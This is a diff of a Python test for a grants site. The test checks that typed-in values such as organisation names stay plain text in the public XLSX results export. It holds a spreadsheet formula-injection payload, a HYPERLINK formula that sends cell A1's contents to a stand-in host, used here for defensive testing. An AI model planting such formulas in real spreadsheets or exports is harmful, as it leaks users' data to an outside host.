@@ -9,12 +9,11 @@ import io
 from openpyxl import load_workbook
 
 from grants.models import GrantOffer
-from tests.grants.test_admin_after_grant import granted_offer  # noqa: F401  (a fixture)
 
 FORMULA = '=HYPERLINK("https://zlo.example/?"&A1;"Kliknij")'
 
 
-def test_the_public_results_keep_typed_in_texts_as_text(client, granted_offer):  # noqa: F811
+def test_the_public_results_keep_typed_in_texts_as_text(client, granted_offer):
     GrantOffer.objects.filter(pk=granted_offer.pk).update(organisation_name=FORMULA, title="+48 600 100 200")
     response = client.get("/dotacje/wyniki.xlsx")
     sheet = load_workbook(io.BytesIO(response.content)).active
